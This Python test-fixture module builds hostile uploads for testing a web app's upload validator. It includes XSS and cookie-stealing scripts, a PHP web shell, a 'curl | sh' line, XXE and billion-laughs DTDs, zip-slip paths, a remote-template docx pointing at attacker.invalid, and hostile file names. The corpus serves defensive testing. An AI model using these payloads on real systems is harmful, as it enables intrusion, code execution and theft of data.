"""A corpus of hostile uploads, generated in code (nothing binary is checked in).

Each :class:`Sample` says what the upload check must do with it:

- ``refuse``: ``store_upload`` raises a ``ValidationError`` with a Chinese message;
- ``neutralize``: it is stored, but re-encoded or renamed so that nothing active survives
  (no ``<script``, ``<svg``, ``<html``…; a generated file name; a safe display name);
- ``serve_safely``: it is a real file of an allowed type with hostile content inside (a PDF
  that starts like one but carries HTML or JavaScript), stored and only ever served as an
  attachment with ``nosniff`` and a sandboxing CSP.

``gap`` marks a sample the current ``anbiao/core/uploads.py`` gets wrong; its test is an
``xfail(strict=True)`` with the fix in the reason, so it turns red the day the fix lands.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field

REFUSE = "refuse"
NEUTRALIZE = "neutralize"
SERVE_SAFELY = "serve_safely"

# What must never appear in a stored file that was accepted as an image or office file.
ACTIVE_MARKERS = (b"<script", b"<svg", b"<html", b"<?php", b"javascript:", b"onerror=", b"<iframe")


@dataclass(frozen=True)
class Sample:
    id: str
    name: str
    make: Callable[[], bytes]
    expect: str
    images_only: bool = False
    limit: int | None = None  # ANBIAO_MAX_UPLOAD_BYTES for this sample
    lie_about_size: bool = False  # the upload does not say its size
    gap: str = ""  # why the current code fails it, and the exact fix
    stored_ext: str = ""  # for neutralize: the extension the stored file must have
    tags: tuple[str, ...] = field(default=())


# --- building blocks --------------------------------------------------------------------------


def png(size: tuple[int, int] = (8, 8), mode: str = "RGB", **save: object) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new(mode, size, 0 if mode == "1" else "red").save(out, "PNG", **save)
    return out.getvalue()


def jpeg(**save: object) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (8, 8), "blue").save(out, "JPEG", **save)
    return out.getvalue()


def gif(comment: bytes = b"") -> bytes:
    from PIL import Image

    out = io.BytesIO()
    img = Image.new("P", (8, 8), 1)
    if comment:
        img.info["comment"] = comment
    img.save(out, "GIF", comment=comment) if comment else img.save(out, "GIF")
    return out.getvalue()


def webp() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (8, 8), "green").save(out, "WEBP")
    return out.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_with_chunk(kind: bytes, data: bytes) -> bytes:
    """A valid PNG with an extra ancillary chunk inserted before IEND."""
    base = png()
    iend = base.rindex(b"IEND") - 4
    return base[:iend] + png_chunk(kind, data) + base[iend:]


def xlsx() -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    wb.active["A1"] = "企业名称"
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def docx() -> bytes:
    from docx import Document

    doc = Document()
    doc.add_paragraph("自查报告")
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


def rezip(
    base: bytes,
    *,
    replace: dict[str, bytes] | None = None,
    add: dict[str, bytes] | None = None,
    drop: tuple[str, ...] = (),
) -> bytes:
    """Rewrite an OOXML zip: replace, add or drop parts."""
    replace = replace or {}
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            if info.filename in drop:
                continue
            dst.writestr(info.filename, replace.get(info.filename, src.read(info.filename)))
        for name, data in (add or {}).items():
            dst.writestr(name, data)
    return out.getvalue()


def part(base: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(base)) as zf:
        return zf.read(name)


XXE_DTD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
)
LAUGHS_DTD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE r [\n'
    b'<!ENTITY lol "lol">\n'
    + b"".join(
        b'<!ENTITY lol%d "%s">\n' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b"]>\n"
)


def with_dtd(xml: bytes, dtd: bytes, entity: bytes) -> bytes:
    """Put a DTD before the root element and use the entity in the first text node."""
    body = xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml
    body = body.lstrip()
    # use the entity inside the root element so a parser that expands it must do so
    close = body.index(b">") + 1
    return dtd + body[:close] + entity + body[close:]


def xlsx_with_xxe(part_name: str, dtd: bytes = XXE_DTD, entity: bytes = b"&xxe;") -> bytes:
    base = xlsx()
    return rezip(base, replace={part_name: with_dtd(part(base, part_name), dtd, entity)})


def xlsx_with_entity_in_defined_name(dtd: bytes = XXE_DTD, entity: bytes = b"&xxe;") -> bytes:
    """XXE where openpyxl would show it: the text of a defined name in xl/workbook.xml."""
    base = xlsx()
    wb = part(base, "xl/workbook.xml")
    body = wb.split(b"?>", 1)[1].lstrip() if wb.startswith(b"<?xml") else wb
    body = body.replace(
        b"<calcPr",
        b'<definedNames><definedName name="leak">'
        + entity
        + b"</definedName></definedNames><calcPr",
        1,
    )
    return rezip(base, replace={"xl/workbook.xml": dtd + body})


def xlsx_shared_strings_with(dtd: bytes, entity: bytes) -> bytes:
    """A workbook whose only cell text comes from sharedStrings.xml carrying the entity."""
    base = xlsx()
    sst = (
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
        b'uniqueCount="1"><si><t>' + entity + b"</t></si></sst>"
    )
    sheet = re.sub(
        rb'<c r="A1" t="inlineStr">.*?</c>',
        b'<c r="A1" t="s"><v>0</v></c>',
        part(base, "xl/worksheets/sheet1.xml"),
    )
    ct = part(base, "[Content_Types].xml").replace(
        b"</Types>",
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    )
    return rezip(
        base,
        replace={"xl/worksheets/sheet1.xml": sheet, "[Content_Types].xml": ct},
        add={"xl/sharedStrings.xml": dtd + sst},
    )


def macro_workbook() -> bytes:
    """What Excel writes for .xlsm: a vbaProject.bin part and a macroEnabled content type."""
    base = xlsx()
    ct = part(base, "[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    ct = ct.replace(
        b"</Types>",
        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    return rezip(
        base,
        replace={"[Content_Types].xml": ct},
        add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name" * 20},
    )


def macro_document() -> bytes:
    base = docx()
    ct = part(base, "[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return rezip(
        base,
        replace={"[Content_Types].xml": ct},
        add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"AutoOpen" * 20},
    )


def hidden_vba_workbook() -> bytes:
    """A VBA project under an innocent name, declared only by its content type."""
    base = xlsx()
    ct = part(base, "[Content_Types].xml").replace(
        b"</Types>",
        b'<Override PartName="/xl/data.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        b"</Types>",
    )
    return rezip(
        base,
        replace={"[Content_Types].xml": ct},
        add={"xl/data.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name" * 20},
    )


def remote_template_docx() -> bytes:
    """Template injection: settings.xml points Word at a remote template (fetched on open)."""
    base = docx()
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://attacker.invalid/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    settings = part(base, "word/settings.xml").replace(
        b"<w:zoom", b'<w:attachedTemplate r:id="rId1"/><w:zoom', 1
    )
    return rezip(
        base,
        replace={"word/settings.xml": settings},
        add={"word/_rels/settings.xml.rels": rels},
    )


def utf16_content_types_with_dtd() -> bytes:
    base = xlsx()
    ct = part(base, "[Content_Types].xml").decode("utf-8")
    body = ct.split("?>", 1)[1] if ct.startswith("<?xml") else ct
    evil = (
        '<?xml version="1.0" encoding="UTF-16"?>\n'
        '<!DOCTYPE Types [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + body
    )
    return rezip(base, replace={"[Content_Types].xml": evil.encode("utf-16")})


def zip_bomb_xlsx() -> bytes:
    """A real workbook plus one part that inflates 1000×."""
    return rezip(xlsx(), add={"xl/media/bomb.bin": b"\0" * (30 * 1024 * 1024)})


def many_entries_xlsx() -> bytes:
    return rezip(xlsx(), add={f"xl/media/{i}.txt": b"x" for i in range(2100)})


def traversal_xlsx(name: str) -> bytes:
    return rezip(xlsx(), add={name: b"owned"})


def plain_zip(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in files.items():
            zf.writestr(name, data)
    return out.getvalue()


def ole2(stream_names: tuple[str, ...]) -> bytes:
    """A compound-file header with directory entry names (enough for a content check)."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
    entries = b"".join(
        n.encode("utf-16-le").ljust(64, b"\0") + struct.pack("<H", (len(n) + 1) * 2) + b"\0" * 62
        for n in ("Root Entry", *stream_names)
    )
    return header + entries.ljust(4096, b"\0")


# --- payloads ---------------------------------------------------------------------------------

SCRIPT_PAYLOADS: dict[str, bytes] = {
    "html": b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>",
    "svg": (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
        b"<script>alert(1)</script></svg>"
    ),
    "xhtml": (b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'),
    "js": b"fetch('/api/v1/me').then(r=>r.text()).then(t=>navigator.sendBeacon('//x',t))",
    "php": b"<?php system($_GET['c']); ?>",
    "hta": b'<hta:application id="x"/><script language="VBScript">CreateObject("WScript.Shell")</script>',
    "bom_html": b"\xef\xbb\xbf<html><img src=x onerror=alert(1)></html>",
    "utf16_html": "<html><script>alert(1)</script></html>".encode("utf-16"),
}
EXECUTABLES: dict[str, bytes] = {
    "elf": b"\x7fELF\x02\x01\x01\x00" + b"\0" * 120,
    "pe": b"MZ\x90\x00\x03\x00\x00\x00"
    + b"\0" * 52
    + b"\x80\0\0\0"
    + b"This program cannot be run in DOS mode",
    "macho": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\0" * 64,
    "shell": b"#!/bin/sh\ncurl http://x | sh\n",
    "batch": b"@echo off\r\npowershell -enc AAAA\r\n",
    "java_class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\0" * 32,
    "jar": b"",  # built below (a zip without OOXML parts)
}
RENAMED_TO = ("png", "jpg", "jpeg", "gif", "pdf", "docx", "xlsx", "doc", "xls")


def _const(data: bytes) -> Callable[[], bytes]:
    return lambda: data


def samples() -> list[Sample]:
    out: list[Sample] = []

    # 1. Active content under an allowed extension: refused by content, whatever the name.
    for kind, payload in SCRIPT_PAYLOADS.items():
        for ext in RENAMED_TO:
            out.append(Sample(f"{kind}-as-{ext}", f"evidence.{ext}", _const(payload), REFUSE))

    # 2. Programs renamed as documents.
    jar = plain_zip(
        {"META-INF/MANIFEST.MF": b"Main-Class: X\n", "X.class": EXECUTABLES["java_class"]}
    )
    apk = plain_zip({"AndroidManifest.xml": b"\x03\x00\x08\x00", "classes.dex": b"dex\n035\0"})
    programs = {**EXECUTABLES, "jar": jar, "apk": apk}
    for kind, data in programs.items():
        for ext in ("pdf", "docx", "png"):
            out.append(Sample(f"{kind}-as-{ext}", f"report.{ext}", _const(data), REFUSE))

    # 3. Image polyglots: accepted only as a re-encoded image with nothing appended.
    out += [
        Sample(
            "png+html-appended",
            "photo.png",
            lambda: png() + SCRIPT_PAYLOADS["html"],
            NEUTRALIZE,
            stored_ext="png",
        ),
        Sample(
            "png-text-chunk-script",
            "photo.png",
            lambda: png_with_chunk(b"tEXt", b"Comment\0<script>alert(1)</script>"),
            NEUTRALIZE,
            stored_ext="png",
        ),
        Sample(
            "png-itxt-chunk-svg",
            "photo.png",
            lambda: png_with_chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0<svg onload=alert(1)>"),
            NEUTRALIZE,
            stored_ext="png",
        ),
        Sample(
            "png-private-chunk-html",
            "photo.png",
            lambda: png_with_chunk(b"htMl", SCRIPT_PAYLOADS["html"]),
            NEUTRALIZE,
            stored_ext="png",
        ),
        Sample(
            "jpeg+js-appended",
            "photo.jpg",
            lambda: jpeg() + b"\n<script>alert(1)</script>",
            NEUTRALIZE,
            stored_ext="jpg",
        ),
        Sample(
            "jpeg-comment-script",
            "photo.jpg",
            lambda: jpeg(comment=b"<script>alert(1)</script>"),
            NEUTRALIZE,
            stored_ext="jpg",
        ),
        Sample(
            "jpeg-xmp-svg",
            "photo.jpg",
            lambda: jpeg(xmp=b"<svg onload=alert(1)><script>x</script></svg>"),
            NEUTRALIZE,
            stored_ext="jpg",
        ),
        Sample(
            "jpeg-icc-script",
            "photo.jpg",
            lambda: jpeg(icc_profile=b"<script>alert(1)</script>" * 4),
            NEUTRALIZE,
            stored_ext="jpg",
        ),
        Sample(
            "gif-comment-script",
            "anim.gif",
            lambda: gif(b"<script>alert(1)</script>"),
            NEUTRALIZE,
            stored_ext="png",
        ),
        Sample(
            "gif+html-appended",
            "anim.gif",
            lambda: gif() + SCRIPT_PAYLOADS["html"],
            NEUTRALIZE,
            stored_ext="png",
        ),
        Sample(
            "webp+html-appended",
            "pic.webp",
            lambda: webp() + SCRIPT_PAYLOADS["html"],
            NEUTRALIZE,
            stored_ext="jpg",
        ),
        Sample("png-renamed-svg", "logo.svg", png, NEUTRALIZE, stored_ext="png"),
        Sample("png-renamed-html", "page.html", png, NEUTRALIZE, stored_ext="png"),
    ]

    # 4. Double extensions (real content: the stored and the display name follow the content).
    out += [
        Sample("double-ext-php-png", "shell.php.png", png, NEUTRALIZE, stored_ext="png"),
        Sample("double-ext-png-exe", "photo.png.exe", png, NEUTRALIZE, stored_ext="png"),
        Sample("double-ext-jpg-php", "photo.jpg.php", jpeg, NEUTRALIZE, stored_ext="jpg"),
        Sample(
            "double-ext-pdf-exe",
            "report.pdf.exe",
            lambda: b"%PDF-1.7\n1 0 obj<<>>endobj\n%%EOF",
            SERVE_SAFELY,
            stored_ext="pdf",
        ),
        Sample("double-ext-docx-js", "report.docx.js", docx, NEUTRALIZE, stored_ext="docx"),
        Sample("double-ext-xlsx-html", "list.xlsx.html", xlsx, NEUTRALIZE, stored_ext="xlsx"),
    ]

    # 5. Office files: macros, XXE, billion laughs, template injection, zip tricks.
    out += [
        Sample("xlsm-renamed-xlsx", "台账.xlsx", macro_workbook, REFUSE),
        Sample("docm-renamed-docx", "报告.docx", macro_document, REFUSE),
        Sample(
            "xlsm-content-type-only",
            "台账.xlsx",
            lambda: rezip(macro_workbook(), drop=("xl/vbaProject.bin",)),
            REFUSE,
        ),
        Sample(
            "vbaproject-bin-only",
            "台账.xlsx",
            lambda: rezip(xlsx(), add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
            REFUSE,
        ),
        Sample(
            "vba-project-under-other-name",
            "台账.xlsx",
            hidden_vba_workbook,
            REFUSE,
        ),
        Sample(
            "xxe-in-content-types",
            "台账.xlsx",
            lambda: xlsx_with_xxe("[Content_Types].xml"),
            REFUSE,
        ),
        Sample(
            "billion-laughs-in-content-types",
            "台账.xlsx",
            lambda: xlsx_with_xxe("[Content_Types].xml", LAUGHS_DTD, b"&lol9;"),
            REFUSE,
        ),
        Sample(
            "xxe-in-workbook-xml",
            "台账.xlsx",
            lambda: xlsx_with_xxe("xl/workbook.xml"),
            REFUSE,
        ),
        Sample(
            "billion-laughs-in-workbook-xml",
            "台账.xlsx",
            lambda: xlsx_with_xxe("xl/workbook.xml", LAUGHS_DTD, b"&lol9;"),
            REFUSE,
        ),
        Sample(
            "billion-laughs-in-shared-strings",
            "台账.xlsx",
            lambda: xlsx_shared_strings_with(LAUGHS_DTD, b"&lol9;"),
            REFUSE,
        ),
        Sample(
            "xxe-in-docx-document",
            "报告.docx",
            lambda: rezip(
                docx(),
                replace={
                    "word/document.xml": with_dtd(part(docx(), "word/document.xml"), XXE_DTD, b"")
                },
            ),
            REFUSE,
        ),
        Sample(
            "utf16-content-types-with-dtd",
            "台账.xlsx",
            utf16_content_types_with_dtd,
            REFUSE,
        ),
        Sample(
            "docx-remote-template",
            "报告.docx",
            remote_template_docx,
            REFUSE,
        ),
        Sample("zip-bomb-in-xlsx", "台账.xlsx", zip_bomb_xlsx, REFUSE),
        Sample("too-many-zip-entries", "台账.xlsx", many_entries_xlsx, REFUSE),
        Sample(
            "zip-slip-dotdot",
            "台账.xlsx",
            lambda: traversal_xlsx("../../../../tmp/owned.txt"),
            REFUSE,
        ),
        Sample(
            "zip-slip-absolute", "台账.xlsx", lambda: traversal_xlsx("/etc/cron.d/owned"), REFUSE
        ),
        Sample(
            "zip-slip-nested-dotdot",
            "台账.xlsx",
            lambda: traversal_xlsx("xl/../../owned.txt"),
            REFUSE,
        ),
        Sample("plain-zip-as-docx", "报告.docx", lambda: plain_zip({"readme.txt": b"hi"}), REFUSE),
        Sample("truncated-zip", "台账.xlsx", lambda: xlsx()[:300], REFUSE),
        Sample(
            "zip-with-html-renamed-xlsx",
            "台账.xlsx",
            lambda: plain_zip({"index.html": SCRIPT_PAYLOADS["html"]}),
            REFUSE,
        ),
        Sample(
            "ole-doc-with-vba-macros",
            "旧报告.doc",
            lambda: ole2(("WordDocument", "Macros", "VBA", "_VBA_PROJECT", "dir")),
            REFUSE,
        ),
    ]

    # 6. Hostile file names on a real image: stored under a generated name, displayed cleaned.
    names = {
        "dotdot": "../../../etc/passwd.png",
        "absolute": "/etc/passwd.png",
        "windows-path": "C:\\Windows\\System32\\evil.png",
        "windows-dotdot": "..\\..\\evil.png",
        "nul": "evil.php\x00.png",
        "crlf-header": "a\r\nContent-Type: text/html\r\n.png",
        "control-chars": "\x1b[31mred\x07\x08.png",
        "rtl-override": "photo\u202egnp.exe",
        "html-in-name": "<img src=x onerror=alert(1)>.png",
        "quote-in-name": '"; filename="evil.html.png',
        "very-long": "长" * 400 + ".png",
        "empty-name": "",
        "only-dots": "..",
        "reserved-windows": "CON.png",
        "url-in-name": "http://evil.invalid/x.png",
    }
    for key, name in names.items():
        out.append(Sample(f"name-{key}", name, png, NEUTRALIZE, stored_ext="png", tags=("name",)))

    # 7. Sizes.
    out += [
        Sample("empty-file", "empty.pdf", lambda: b"", REFUSE),
        Sample("empty-image", "empty.png", lambda: b"", REFUSE),
        Sample("oversize", "big.pdf", lambda: b"%PDF-1.7\n" + b"0" * 5000, REFUSE, limit=4096),
        Sample(
            "oversize-size-unknown",
            "big.pdf",
            lambda: b"%PDF-1.7\n" + b"0" * 5000,
            REFUSE,
            limit=4096,
            lie_about_size=True,
        ),
        Sample(
            "one-byte-over", "big.pdf", lambda: b"%PDF-1.7\n".ljust(4097, b"0"), REFUSE, limit=4096
        ),
    ]

    # 8. Broken and oversized images.
    out += [
        Sample("truncated-png", "photo.png", lambda: png((64, 64))[:60], REFUSE),
        Sample("truncated-jpeg", "photo.jpg", lambda: jpeg()[:200], REFUSE),
        Sample("truncated-gif", "anim.gif", lambda: gif()[:20], REFUSE),
        Sample("png-magic-only", "photo.png", lambda: b"\x89PNG\r\n\x1a\n", REFUSE),
        Sample(
            "jpeg-magic-then-html",
            "photo.jpg",
            lambda: b"\xff\xd8\xff" + SCRIPT_PAYLOADS["html"],
            REFUSE,
        ),
        Sample(
            "gif-magic-then-js",
            "anim.gif",
            lambda: b"GIF89a/*" + b"*/=alert(1)//" + b"\0" * 20,
            REFUSE,
        ),
        Sample("pixel-bomb-png", "huge.png", lambda: png((20000, 20000), mode="1"), REFUSE),
        Sample(
            "pixel-bomb-just-over-limit",
            "huge.png",
            lambda: png((7000, 6000), mode="1"),
            REFUSE,
        ),
        Sample(
            "pdf-for-images-only", "photo.png", lambda: b"%PDF-1.7\n%%EOF", REFUSE, images_only=True
        ),
        Sample("docx-for-images-only", "photo.png", docx, REFUSE, images_only=True),
    ]

    # 9. PDFs with hostile content: a PDF is kept as it is, so it must be served safely.
    out += [
        Sample(
            "pdf-header-then-html",
            "report.pdf",
            lambda: b"%PDF-1.4\n" + SCRIPT_PAYLOADS["html"],
            SERVE_SAFELY,
            stored_ext="pdf",
        ),
        Sample(
            "pdf-with-javascript-action",
            "report.pdf",
            lambda: (
                b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF"
            ),
            SERVE_SAFELY,
            stored_ext="pdf",
        ),
        Sample(
            "pdf-header-then-elf",
            "report.pdf",
            lambda: b"%PDF-1.4\n" + EXECUTABLES["elf"],
            SERVE_SAFELY,
            stored_ext="pdf",
        ),
    ]

    # 10. Office files that reach outside themselves (linked pictures, links, fields).
    from tests.security.hostile import ooxml_external

    out += ooxml_external.samples()
    return out
